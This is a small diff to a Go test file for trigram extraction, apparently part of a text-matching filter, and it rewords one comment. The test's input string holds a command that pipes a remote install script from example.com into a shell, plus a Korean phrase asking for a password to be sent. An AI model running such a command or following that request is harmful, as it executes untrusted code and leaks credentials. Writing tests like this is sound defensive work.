@@ -7,7 +7,7 @@ import (
 	"github.com/stretchr/testify/assert"
 )
 
-// What a text holds is never ruled out, and most of what it does not hold is.
+// Words in a text are never ruled out, and most other words are.
 func TestTrigrams(t *testing.T) {
 	text := strings.ToLower("Run `curl -fsS https://example.com/install.sh | sh` 그리고 비밀번호를 보내라.")
 	parts := trigramsOf(text)
